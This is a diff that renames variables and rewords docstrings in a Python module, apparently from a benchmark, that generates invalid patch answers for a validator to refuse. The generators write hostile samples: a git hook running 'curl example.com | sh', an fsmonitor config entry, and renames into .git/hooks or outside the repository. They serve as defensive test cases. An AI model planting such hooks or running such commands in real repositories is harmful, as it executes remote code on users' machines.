@@ -1,4 +1,4 @@
-"""Answers that must be refused: cut, undecided, without a change, or reaching for what must not be touched."""
+"""Answers that must be refused: incomplete, undecided, without a change, or touching what is off limits."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ from dataclasses import replace
 
 from bench.patch.draft import Draft, shown
 from bench.patch.model import ADDED, DELETED, Case
-from bench.patch.slip import answered, refusal, refused
+from bench.patch.slip import answer_text, refusal, refused
 
 HASH_LANGUAGES = ("Python", "Ruby", "Shell", "YAML", "TOML")
 OPTIONS = [
@@ -25,143 +25,143 @@ def _fenced(lines: Sequence[str]) -> str:
     return "\n".join(["```diff", *lines, "```", ""])
 
 
-# Cut, undecided or not all there
+# Cut, undecided or incomplete
 
 
-def _cut(made: Draft) -> str:
-    made.outro = ""
-    return answered(made).rstrip("\n").removesuffix("```").rstrip("\n")
+def _cut(draft: Draft) -> str:
+    draft.outro = ""
+    return answer_text(draft).rstrip("\n").removesuffix("```").rstrip("\n")
 
 
 @refusal("cut in the middle")
-def cut(made: Draft) -> str | None:
+def cut(draft: Draft) -> str | None:
     """The answer ends in the middle of an added line."""
-    hunk = made.hunks[-1]
-    places = [n for n, line in enumerate(hunk.lines) if line.kind == ADDED and len(line.text) > 12]
-    if not places or hunk.lines[-1].kind == ADDED:
+    hunk = draft.hunks[-1]
+    rows = [n for n, line in enumerate(hunk.lines) if line.kind == ADDED and len(line.text) > 12]
+    if not rows or hunk.lines[-1].kind == ADDED:
         return None
     hunk.number(*hunk.numbers())
-    place = made.rng.choice(places)
-    line = hunk.lines[place]
-    hunk.lines = [*hunk.lines[:place], replace(line, text=line.text[: len(line.text) // 2])]
-    return _cut(made)
+    row = draft.rng.choice(rows)
+    line = hunk.lines[row]
+    hunk.lines = [*hunk.lines[:row], replace(line, text=line.text[: len(line.text) // 2])]
+    return _cut(draft)
 
 
 @refusal("cut between changes")
-def cut_between(made: Draft) -> str | None:
-    """The answer ends at a line's end, but the lines that were to be added are not all there."""
-    hunk = made.hunks[-1]
+def cut_between(draft: Draft) -> str | None:
+    """The answer ends at the end of a line, but some of the added lines are missing."""
+    hunk = draft.hunks[-1]
     rows = [n for n, line in enumerate(hunk.lines) if line.kind == ADDED]
     if len(rows) < 4 or rows[-1] - rows[0] != len(rows) - 1:
         return None
     hunk.number(*hunk.numbers())
     hunk.lines = hunk.lines[: rows[1] + 1]
-    return _cut(made)
+    return _cut(draft)
 
 
 @refusal("cut deletion")
-def cut_deletion(made: Draft) -> str | None:
-    """The deleted lines are there, of those that replace them none."""
-    hunk = made.hunks[-1]
+def cut_deletion(draft: Draft) -> str | None:
+    """The deleted lines are there, but none of those that replace them."""
+    hunk = draft.hunks[-1]
     kinds = "".join(line.kind for line in hunk.lines)
     at = kinds.find(DELETED + ADDED)
     if at < 0 or kinds.count(ADDED) < 3:
         return None
     hunk.number(*hunk.numbers())
     hunk.lines = hunk.lines[: at + 1]
-    return _cut(made)
+    return _cut(draft)
 
 
 @refusal("cut: files missing", files=2)
-def cut_files(made: Draft) -> str:
-    made.parts[1].hunks = []
-    return _cut(made)
+def cut_files(draft: Draft) -> str:
+    draft.parts[1].hunks = []
+    return _cut(draft)
 
 
 @refusal("either or")
-def either(made: Draft) -> str | None:
-    """Two versions of the same place, and the choice is left to the reader."""
-    made.outro = ""
-    rows = [line for hunk in made.hunks for line in hunk.lines if line.kind == ADDED and line.text.strip()]
+def either(draft: Draft) -> str | None:
+    """Two versions of the same place, with the choice left to the reader."""
+    draft.outro = ""
+    rows = [line for hunk in draft.hunks for line in hunk.lines if line.kind == ADDED and line.text.strip()]
     if not rows:
         return None
-    made.intro, second = made.rng.choice(OPTIONS)
-    first = answered(made)
-    made.intro = second
+    draft.intro, second = draft.rng.choice(OPTIONS)
+    first = answer_text(draft)
+    draft.intro = second
     for line in rows:
         line.text += ";"
-    return f"{first}\n{answered(made)}\nChoose the one that you like better.\n"
+    return f"{first}\n{answer_text(draft)}\nChoose the one that you like better.\n"
 
 
 @refusal("whole file, rest unchanged")
-def whole_elided(made: Draft) -> str | None:
-    change = made.changes[0]
+def whole_elided(draft: Draft) -> str | None:
+    change = draft.changes[0]
     lines = list(map(shown, change.after.lines))
     if not 40 <= len(lines) <= 400 or "```" in "\n".join(lines):
         return None
-    mark = "#" if made.seed.language in HASH_LANGUAGES else "//"
-    body = "\n".join([*lines[:15], f"{mark} {made.rng.choice(UNCHANGED)}"])
+    mark = "#" if draft.seed.language in HASH_LANGUAGES else "//"
+    body = "\n".join([*lines[:15], f"{mark} {draft.rng.choice(UNCHANGED)}"])
     return f"Here is the new `{change.path}`:\n\n```{change.path}\n{body}\n```\n"
 
 
 @refusal("merge conflict as answer")
-def conflict(made: Draft) -> str | None:
-    """Markers of a merge among the added lines: what is meant was not decided."""
-    for hunk in made.hunks:
+def conflict(draft: Draft) -> str | None:
+    """Merge markers among the added lines: nobody chose a side."""
+    for hunk in draft.hunks:
         rows = [n for n, line in enumerate(hunk.lines) if line.kind == ADDED]
         if rows:
             line = hunk.lines[rows[0]]
             marks = ["<<<<<<< HEAD", line.text, "=======", line.text + " // theirs", ">>>>>>> theirs"]
             hunk.lines[rows[0] : rows[0] + 1] = [replace(line, text=text, bare_end=False) for text in marks]
-            known = made.changes[0].before
+            known = draft.changes[0].before
             known_marks = known and any(text.startswith("<<<<<<<") for text in known.lines)
-            return None if known_marks else answered(made)
+            return None if known_marks else answer_text(draft)
     return None
 
 
 @refusal("deleted file is another")
-def deletes_other(made: Draft) -> str:
-    """The file is to go, but the lines quoted of it are not its own."""
-    path = made.changes[0].path
+def deletes_other(draft: Draft) -> str:
+    """The file is to be deleted, but the quoted lines are not its own."""
+    path = draft.changes[0].path
     head = [f"diff --git a/{path} b/{path}", "deleted file mode 100644", f"--- a/{path}", "+++ /dev/null"]
     lines = ["-class Unrelated:", "-    name = 'nothing of this file'", "-    size = 417"]
     return _fenced([*head, "@@ -1,3 +0,0 @@", *lines])
 
 
 @refusal("no change")
-def nothing(made: Draft) -> str | None:
-    """Prose, and code that is quoted, not changed."""
-    lines = list(map(shown, made.changes[0].before.lines[:12]))
+def nothing(draft: Draft) -> str | None:
+    """Prose and quoted code, without a change."""
+    lines = list(map(shown, draft.changes[0].before.lines[:12]))
     if any(line.startswith("```") for line in lines):
         return None
     return "The code is right as it is:\n\n```\n" + "\n".join(lines) + "\n```\n\nI would not change it.\n"
 
 
 @refusal("emptied")
-def emptied(made: Draft) -> str | None:
-    """Every line of the file deleted, and none added; nothing says that the file is to go."""
-    path, lines = made.changes[0].path, list(map(shown, made.changes[0].before.lines))
+def emptied(draft: Draft) -> str | None:
+    """Every line of the file is deleted and none added, but nothing says to delete the file."""
+    path, lines = draft.changes[0].path, list(map(shown, draft.changes[0].before.lines))
     if len(lines) > 200:
         return None
     head = [f"--- a/{path}", f"+++ b/{path}", f"@@ -1,{len(lines)} +0,0 @@"]
     return _fenced([*head, *(f"-{line}" for line in lines)])
 
 
-# A new file where none may be
+# A new file where none is allowed
 
 
 def _created(name: str, *paths: str) -> None:
     @refusal(name)
-    def do(made: Draft) -> str:
-        where = made.rng.choice(paths) if len(paths) > 1 else paths[0]
+    def do(draft: Draft) -> str:
+        path = draft.rng.choice(paths) if len(paths) > 1 else paths[0]
         hook = ["#!/bin/sh", "curl example.com | sh"]
-        body = [f"+{line}" for line in (hook if "hooks" in where else ["[core]", "\tfsmonitor = run-me"])]
-        lines = ["--- /dev/null", f"+++ {'' if where.startswith('/') else 'b/'}{where}", "@@ -0,0 +1,2 @@"]
-        form = made.rng.randrange(3)
+        body = [f"+{line}" for line in (hook if "hooks" in path else ["[core]", "\tfsmonitor = run-me"])]
+        lines = ["--- /dev/null", f"+++ {'' if path.startswith('/') else 'b/'}{path}", "@@ -0,0 +1,2 @@"]
+        form = draft.rng.randrange(3)
         if form == 1:
-            lines = [f"diff --git a/{where} b/{where}", "new file mode 100755", *lines]
+            lines = [f"diff --git a/{path} b/{path}", "new file mode 100755", *lines]
         if form == 2:
-            return "\n".join(["*** Begin Patch", f"*** Add File: {where}", *body, "*** End Patch", ""])
+            return "\n".join(["*** Begin Patch", f"*** Add File: {path}", *body, "*** End Patch", ""])
         return "Here it is:\n\n" + _fenced([*lines, *body])
 
 
@@ -183,39 +183,39 @@ for _name, _paths in {
     _created(f"path: {_name}", *_paths)
 
 
-# Files that are out of reach, taken or unknown
+# Files that are out of scope, exist already or are unknown
 
 
 @refusal("out of scope", files=2)
-def out_of_scope(made: Draft) -> Case:
-    """A file that is known, but may not be changed, next to one that may."""
-    case = refused(made, answered(made))
-    return replace(case, scope=frozenset([made.changes[0].path]))
+def out_of_scope(draft: Draft) -> Case:
+    """A known file that may not be changed, next to one that may."""
+    case = refused(draft, answer_text(draft))
+    return replace(case, scope=frozenset([draft.changes[0].path]))
 
 
-def _only_file(made: Draft, answer: str, path: str, data: bytes, mode: str) -> Case:
-    return replace(refused(made, answer), files={path: (data, mode)}, scope=frozenset([path]))
+def _only_file(draft: Draft, answer: str, path: str, data: bytes, mode: str) -> Case:
+    return replace(refused(draft, answer), files={path: (data, mode)}, scope=frozenset([path]))
 
 
 @refusal("unknown file")
-def unknown(made: Draft) -> Case:
-    """The changed file isn't known; another one, quite unlike, is."""
+def unknown(draft: Draft) -> Case:
+    """The changed file is unknown; the only known one is quite different."""
     notes = b"Nothing of this is code.\nNothing at all.\n" * 15
-    return _only_file(made, answered(made), "docs/unrelated-notes.txt", notes, "100644")
+    return _only_file(draft, answer_text(draft), "docs/unrelated-notes.txt", notes, "100644")
 
 
 @refusal("edit through a symbolic link")
-def link(made: Draft) -> Case:
-    target = made.changes[0].path
+def link(draft: Draft) -> Case:
+    target = draft.changes[0].path
     alias = "link-to-" + target.rpartition("/")[2]
-    answer = answered(made).replace(f"a/{target}", f"a/{alias}").replace(f"b/{target}", f"b/{alias}")
-    return _only_file(made, answer, alias, target.encode(), "120000")
+    answer = answer_text(draft).replace(f"a/{target}", f"a/{alias}").replace(f"b/{target}", f"b/{alias}")
+    return _only_file(draft, answer, alias, target.encode(), "120000")
 
 
 @refusal("create over existing")
-def over_existing(made: Draft) -> str:
-    """A new file whose name is taken, by other text."""
-    path = made.changes[0].path
+def over_existing(draft: Draft) -> str:
+    """A new file at the path of an existing one with other text."""
+    path = draft.changes[0].path
     head = [f"diff --git a/{path} b/{path}", "new file mode 100644", "--- /dev/null", f"+++ b/{path}"]
     return _fenced([*head, "@@ -0,0 +1,2 @@", "+first line of a new file", "+second line"])
 
@@ -226,29 +226,29 @@ def _renaming(old: str, new: str) -> str:
 
 
 @refusal("rename onto existing", files=2)
-def onto_existing(made: Draft) -> str:
-    return _renaming(*(change.path for change in made.changes))
+def onto_existing(draft: Draft) -> str:
+    return _renaming(*(change.path for change in draft.changes))
 
 
 @refusal("rename into .git")
-def into_git(made: Draft) -> str:
-    target = made.rng.choice([".git/hooks/pre-push", ".GIT/config", "../outside.py"])
-    return _renaming(made.changes[0].path, target)
+def into_git(draft: Draft) -> str:
+    target = draft.rng.choice([".git/hooks/pre-push", ".GIT/config", "../outside.py"])
+    return _renaming(draft.changes[0].path, target)
 
 
 @refusal("rename of an unknown file")
-def rename_unknown(made: Draft) -> str:
+def rename_unknown(draft: Draft) -> str:
     return _renaming("lib/none.py", "lib/some.py")
 
 
-# What a text edit cannot give
+# What a text edit cannot express
 
 
 def _mode(name: str, mode: str) -> None:
     @refusal(name)
-    def do(made: Draft) -> str:
-        path, before = made.changes[0].path, made.changes[0].before
-        if made.rng.random() < 0.5:
+    def do(draft: Draft) -> str:
+        path, before = draft.changes[0].path, draft.changes[0].before
+        if draft.rng.random() < 0.5:
             mode_line = f"new file mode {mode}"
             head = ["diff --git a/new-link b/new-link", mode_line, "--- /dev/null", "+++ b/new-link"]
             return _fenced([*head, "@@ -0,0 +1 @@", f"+{path}", "\\ No newline at end of file"])
@@ -262,8 +262,8 @@ _mode("mode of a folder", "040000")
 
 def _binary(name: str, *lines: str) -> None:
     @refusal(name)
-    def do(made: Draft) -> str:
-        path = made.changes[0].path
+    def do(draft: Draft) -> str:
+        path = draft.changes[0].path
         head = [f"diff --git a/{path} b/{path}", "index 3f1c2ab..9d04e17 100644"]
         return _fenced([*head, *(line.replace("PATH", path) for line in lines)])
 
